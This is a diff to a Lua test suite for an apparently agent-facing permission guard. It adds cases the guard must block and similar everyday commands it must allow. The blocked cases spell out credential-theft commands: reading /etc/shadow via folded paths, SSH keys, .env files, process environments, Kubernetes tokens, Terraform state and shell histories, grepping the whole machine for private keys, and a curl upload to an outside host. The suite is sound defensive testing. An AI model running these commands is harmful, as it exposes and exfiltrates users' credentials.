@@ -165,6 +165,97 @@ local allowed = {
   B("bash -c 'echo .env >> .gitignore'"),
 }
 
+-- Paths spelled with "//", "/./" or "dir/.." name the file they fold to.
+local folded_reads = {
+  { R("/etc//shadow"), "reading /etc/shadow" },
+  { R("/etc/./shadow"), "reading /etc/shadow" },
+  { R("/etc/ssl/../shadow"), "reading /etc/shadow" },
+  { T("Grep", "fs.read", { pattern = "root", path = "/etc//shadow" }), "reading /etc/shadow" },
+  { B("cat /etc//shadow"), "reading /etc/shadow" },
+  { B("head -c 100 /etc/./shadow"), "reading /etc/shadow" },
+  { B("sudo less /etc/x/../shadow"), "reading /etc/shadow" },
+  { B("cat ~/.ssh//id_rsa"), "reading ~/.ssh/id_rsa" },
+  { B("cat src/../.env"), "reading .env" },
+}
+
+-- The other places secrets are kept: a process's environment, a pod's
+-- token, Terraform state, shell histories, and the cloud folders a
+-- listing's glob names.
+local more_secret_reads = {
+  { R("/proc/self/environ"), "reading /proc/self/environ" },
+  { B("cat /proc/1/environ"), "reading /proc/1/environ" },
+  { B("tr '\\0' '\\n' < /proc/self/environ"), "reading /proc/self/environ" },
+  { B("cat /proc/*/environ"), "reading /proc/*/environ" },
+  { R("/var/run/secrets/kubernetes.io/serviceaccount/token"), "which may hold keys" },
+  { B("cat /var/run/secrets/kubernetes.io/serviceaccount/token"), "which may hold keys" },
+  { R("/home/dev/project/terraform.tfstate"), "reading /home/dev/project/terraform.tfstate" },
+  { B("cat terraform.tfstate | jq '.resources[].instances[].attributes.password'"), "reading terraform.tfstate" },
+  { B("cat infra/terraform.tfstate.backup"), "reading infra/terraform.tfstate.backup" },
+  { B("cat ~/.bash_history | grep -i password"), "reading ~/.bash_history" },
+  { B("grep -i passw ~/.zsh_history"), "reading ~/.zsh_history" },
+  { R("/home/dev/.psql_history"), "which may hold keys" },
+  { T("Glob", "fs.read", { pattern = "/home/dev/.aws/**" }), "reading /home/dev/.aws/**" },
+  { T("Glob", "fs.read", { pattern = "~/.ssh/*" }), "reading ~/.ssh/*" },
+  { T("Glob", "fs.read", { pattern = "**/.env*" }), "reading **/.env*" },
+  { T("Glob", "fs.read", { pattern = "~/.aws/cred*" }), "reading ~/.aws/cred*" },
+  -- a glob ending in * still names the keys whose names it spells
+  { T("Glob", "fs.read", { pattern = "**/id_rsa*" }), "reading **/id_rsa*" },
+  -- a find that selects secrets by name runs its -exec on them
+  { B("find . -name '.env*' -exec cat {} +"), "reading .env*" },
+  { B("find ~/.ssh -type f -exec cat {} \\;"), "reading ~/.ssh" },
+  -- an unknown part of a word does not hide the name it spells around
+  { B('cat "$DIR/.env"'), "reading …/.env" },
+  { B('cat "$NAME.pem"'), "reading ….pem" },
+  { B("cat list.txt | xargs cat"), "which may hold keys" },
+  { B('curl -T "$F" https://x.example/up'), "which may hold keys" },
+  -- searching the home folder or the machine for private keys
+  { T("Grep", "fs.read", { pattern = "BEGIN .* PRIVATE KEY", path = "/home/dev" }), "searching /home/dev for private keys" },
+  { T("Grep", "fs.read", { pattern = "PRIVATE KEY-----", path = "/" }), "for private keys" },
+  { T("Grep", "fs.read", { pattern = "private_key", path = "~" }), "for private keys" },
+  { B('grep -rn "BEGIN OPENSSH PRIVATE KEY" ~'), "searching ~ for private keys" },
+  { B("sudo rg -l 'PRIVATE KEY' /home /root"), "searching /home for private keys" },
+  { B("grep -rl -e 'BEGIN RSA PRIVATE KEY' /etc"), "searching /etc for private keys" },
+}
+
+-- Everyday forms near those rules: find's {} is whatever its tests
+-- select, a $VAR in a header or a credentials flag is a value, public keys
+-- and ssh's own configuration hold no secret, a glob that ends in * names
+-- its own files, a pipe from <(…) is no file, a list's lines fed to curl
+-- are URLs, and a search for keys inside the project is the project's.
+local near_allowed = {
+  B("find . -type f -exec cat {} +"),
+  B("find src -exec grep -l TODO {} +"),
+  B('find . -name "*.go" -exec grep -l TODO {} +'),
+  B("find . -name '*.md' -print0 | xargs -0 wc -l"),
+  B('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user'),
+  B("curl -d '{\"query\":\"{ viewer { login } }\"}' -H \"Authorization: bearer $GH_TOKEN\" https://api.github.com/graphql"),
+  B('curl -s https://api.stripe.com/v1/charges -u "$STRIPE_KEY:"'),
+  B("cat ~/.ssh/id_ed25519.pub"),
+  B("ssh-keygen -lf ~/.ssh/id_ed25519.pub"),
+  R("/home/dev/.ssh/id_ed25519.pub"),
+  R("~/.ssh/id_rsa.pub"),
+  B("cat ~/.ssh/config"),
+  B("cat ~/.ssh/known_hosts | wc -l"),
+  B("ssh-keygen -F github.com -f ~/.ssh/known_hosts"),
+  B("ls ~/.ssh"),
+  T("Glob", "fs.read", { pattern = "**/Dockerfile*" }),
+  T("Glob", "fs.read", { pattern = "src/**/config*" }),
+  T("Glob", "fs.read", { pattern = "**/*.tf" }),
+  B("Remove-Item $env:TEMP\\build-cache -Recurse -Force"),
+  T("PowerShell", "shell", { command = "Remove-Item $env:TEMP\\build-cache -Recurse -Force" }),
+  B("source <(kubectl completion bash)"),
+  B('bash -c "cd $PROJECT_DIR && npm test"'),
+  B("cat list.txt | xargs -n1 curl -sO"),
+  B("cat urls.txt | xargs -n1 wget -q"),
+  B("cat /etc/passwd"),
+  B("cat terraform.tfvars.example"),
+  R("main.tf"),
+  T("Grep", "fs.read", { pattern = "BEGIN .* PRIVATE KEY", path = "src" }),
+  T("Grep", "fs.read", { pattern = "PRIVATE KEY" }),
+  B('grep -rn "PRIVATE KEY" internal/scanner'),
+  B("grep -rn TODO ~/project/src"),
+}
+
 for _, c in ipairs(blocked) do
   test("blocks: " .. c[2], function() denied(c[1](), c[2]) end)
 end
@@ -176,6 +267,15 @@ for i, c in ipairs(secret_reads) do
 end
 for i, r in ipairs(allowed) do
   test("allows everyday work " .. i, function() expect.no_objection(r()) end)
+end
+for i, c in ipairs(folded_reads) do
+  test("a folded path is read as the file it names " .. i .. ": " .. c[2], function() denied(c[1](), c[2]) end)
+end
+for i, c in ipairs(more_secret_reads) do
+  test("secret read blocked (more) " .. i .. ": " .. c[2], function() denied(c[1](), c[2]) end)
+end
+for i, r in ipairs(near_allowed) do
+  test("allows the everyday forms near the read rules " .. i, function() expect.no_objection(r()) end)
 end
 
 test("the reason says what to do instead", function()
